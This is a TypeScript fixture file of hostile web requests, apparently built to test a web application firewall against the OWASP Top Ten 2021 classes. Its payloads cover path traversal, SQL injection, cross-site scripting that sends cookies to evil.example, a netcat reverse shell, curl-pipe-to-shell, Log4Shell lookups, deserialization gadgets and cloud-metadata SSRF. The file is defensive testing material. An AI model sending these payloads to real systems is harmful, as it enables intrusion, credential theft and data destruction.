// biome-ignore-all lint/suspicious/noTemplateCurlyInString: expressions that attackers write
/**
 * What the firewall has to stop, by the classes of the OWASP Top Ten 2021. Three of them are not a firewall's: A02 (cryptography) is TLS and KMS, A04
 * (design) is the services' own, A09 (logging) is what the records are for. Tokens of every wrong kind, which are A01 and A07, too, end at the
 * gateway and are tested there. Rules of level 1 do not see everything: a Java object in base64, or an address as one number, is seen from level 2 on,
 * which also stops honest people.
 */
export type Attack = { what: string; path: string; method?: string; headers?: Record<string, string>; body?: string };

const inQuery = (what: string, text: string): Attack => ({
  what,
  path: `/api/tickets?booking=${encodeURIComponent(text)}`,
});
const inBody = (what: string, text: string): Attack => ({
  ...{ what, path: '/api/channels', method: 'POST', headers: { 'content-type': 'application/json' } },
  body: JSON.stringify({ key: 'k-1', show: 'arirang', title: text }),
});
const inHeader = (what: string, name: string, value: string): Attack => ({
  ...{ what, path: '/api/shows', headers: { [name]: value } },
});
const at = (path: string): Attack => ({ what: path, path });

export const attacks: Record<string, { some: Attack[] }> = {
  'A01 broken access control: files of the machine': {
    some: [
      inQuery('a path upwards', '../../../../etc/passwd'),
      inQuery('a path upwards, encoded twice', '%252e%252e%252f%252e%252e%252fetc%252fpasswd'),
      inQuery('a path upwards of Windows', '..\\..\\..\\windows\\win.ini'),
      inQuery('an absolute path', '/etc/shadow'),
      inQuery('the environment of a process', '/proc/self/environ'),
      inQuery('a file by its URL', 'file:///etc/passwd'),
      inBody('a path upwards in a body', '../../../../etc/passwd'),
      inBody('keys of a user in a body', '/home/ubuntu/.ssh/id_rsa'),
      at('/api/shows/..%2f..%2f..%2fetc%2fpasswd'),
      at('/api/shows/../../../../etc/passwd'),
    ],
  },
  'A03 injection: SQL': {
    some: [
      inQuery('always true', "1' OR '1'='1' -- "),
      inQuery('a union', '1 UNION SELECT username, password FROM users'),
      inQuery('a second statement', "1'; DROP TABLE tickets; --"),
      inQuery('sleep', "1' AND SLEEP(5)-- "),
      inQuery('pg_sleep', "1'; SELECT pg_sleep(10)--"),
      inQuery('comments in words', "1'/**/UNION/**/ALL/**/SELECT/**/NULL,NULL--"),
      inQuery('the catalogue', "1' AND 1=(SELECT COUNT(*) FROM information_schema.tables)--"),
      inBody('always true in a body', "x' OR 1=1 -- "),
      inBody('a union in a body', "x' UNION ALL SELECT NULL, version() -- "),
      inHeader('in a cookie', 'cookie', "id=1' OR '1'='1' UNION SELECT 1,2,3 -- "),
    ],
  },
  'A03 injection: scripts': {
    some: [
      inQuery('a script', '<script>alert(1)</script>'),
      inQuery('an image with a handler', '<img src=x onerror=alert(document.cookie)>'),
      inQuery('a drawing with a handler', '<svg onload=alert(1)>'),
      inQuery('a link', '<a href="javascript:alert(1)">x</a>'),
      inQuery('a frame', '<iframe src="javascript:alert(1)"></iframe>'),
      inQuery('an event in an attribute', '" onmouseover="alert(1)'),
      inBody('a script in a body', '<script>fetch("//evil.example/"+document.cookie)</script>'),
      inBody('a handler in a body', '<body onload=alert(1)>'),
      inBody('a data URL in a body', '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">'),
      inHeader('in the referrer', 'referer', 'https://x.example/<script>alert(1)</script>'),
    ],
  },
  'A03 injection: commands and templates': {
    some: [
      inQuery('a command after a semicolon', '; cat /etc/passwd'),
      inQuery('a command in a pipe', 'x | nc -e /bin/sh 10.0.0.1 4444'),
      inQuery('a command in back quotes', '`id; uname -a`'),
      inQuery('a command in a substitution', '$(curl http://evil.example/x.sh | sh)'),
      inQuery('PowerShell', 'powershell.exe -EncodedCommand SQBFAFgA'),
      inQuery('PHP', '<?php system($_GET["c"]); ?>'),
      inQuery('Java', '${T(java.lang.Runtime).getRuntime().exec("id")}'),
      inBody('a shell in a body', '; wget http://evil.example/x -O /tmp/x && chmod +x /tmp/x'),
      inBody('JavaScript of a server in a body', "require('child_process').exec('id')"),
      inBody('a template of Ruby in a body', '<%= system("cat /etc/passwd") %>'),
    ],
  },
  'A05 misconfiguration: files that lie about': {
    some: [
      at('/.env'),
      at('/.git/config'),
      at('/.aws/credentials'),
      at('/.htpasswd'),
      at('/.svn/entries'),
      at('/.ssh/id_rsa'),
      at('/.bash_history'),
      at('/api/.git/HEAD'),
      at('/wp-config.php.bak'),
      at('/WEB-INF/web.xml'),
    ],
  },
  'A06 components: exploits of known holes': {
    some: [
      inHeader('Log4Shell in the agent', 'user-agent', '${jndi:ldap://evil.example/a}'),
      inHeader('Log4Shell hidden', 'x-forwarded-for', '${${lower:j}ndi:${lower:l}dap://evil.example/a}'),
      inQuery('Log4Shell in a query', '${jndi:rmi://evil.example/a}'),
      inBody('Log4Shell in a body', '${jndi:dns://evil.example/a}'),
      inHeader('Shellshock', 'user-agent', '() { :; }; /bin/bash -c "id"'),
      inQuery('Spring4Shell', 'class.module.classLoader.resources.context.parent.pipeline.first.pattern=x'),
      inHeader(
        'Struts',
        'content-type',
        "%{(#_='multipart/form-data').(#cmd='id').(#p=new java.lang.ProcessBuilder(#cmd))}",
      ),
      inQuery('Text4Shell', '${script:javascript:java.lang.Runtime.getRuntime().exec("id")}'),
      inBody(
        'Confluence',
        '${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec("id").getInputStream()))}',
      ),
      at('/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input'),
    ],
  },
  'A07 authentication: tools that guess, and sessions that are planted': {
    some: [
      ...['sqlmap/1.8', 'Nikto/2.5.0', 'masscan/1.3', 'Nuclei - Open-source project', 'WPScan v3.8', 'dirbuster'].map(
        (agent) => inHeader(agent, 'user-agent', agent),
      ),
      inQuery('a cookie by a script', '<script>document.cookie="sessionid=1"</script>'),
      inQuery('a cookie by a tag', '<meta http-equiv="Set-Cookie" content="session=planted">'),
      inBody('a cookie in a body', '.cookie; expires=1; domain=tickets.example'),
      {
        what: 'a session from elsewhere',
        path: '/api/shows?jsessionid=planted',
        headers: { referer: 'http://evil.example/' },
      },
    ],
  },
  'A08 integrity: objects to be unpacked': {
    some: [
      inQuery('a stream of Java objects', 'java.io.ObjectInputStream'),
      inBody('templates of Xalan in a body', 'com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl'),
      inQuery('a chain of Java', 'org.apache.commons.collections.functors.InvokerTransformer'),
      inBody('a process of Java in a body', 'java.lang.ProcessBuilder'),
      inBody('a runtime of Java in a body', 'java.lang.Runtime getRuntime().exec("id")'),
      inQuery('a PHP object', 'O:8:"stdClass":1:{s:1:"a";s:2:"id";}'),
      inBody('a PHP object in a body', 'O:4:"User":1:{s:5:"admin";b:1;}'),
      inBody('a function of Node in a body', '_$$ND_FUNC$$_function(){require("child_process").exec("id")}()'),
      inQuery('a prototype', '__proto__[admin]=1'),
      inBody('a prototype in a body', 'constructor.prototype.admin'),
    ],
  },
  'A10 server-side requests': {
    some: [
      inQuery('the metadata service', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'),
      inQuery('the metadata service as a number', 'http://2852039166/latest/meta-data/'),
      inQuery('the metadata service by its name', 'http://metadata.google.internal/computeMetadata/v1/'),
      inQuery('the metadata service of containers', 'http://169.254.170.2/v2/credentials'),
      inQuery('itself', 'http://127.0.0.1:6443/api'),
      inQuery('the metadata service in octal', 'http://0251.0376.0251.0376/latest/meta-data'),
      inQuery('another protocol', 'gopher://127.0.0.1:6379/_FLUSHALL'),
      inQuery('a page of an address', 'http://10.0.0.1/shell.php?'),
      inBody('the metadata service in a body', 'http://169.254.169.254/latest/user-data'),
      inBody('another protocol in a body', 'gopher://localhost:6379/_FLUSHALL'),
    ],
  },
};
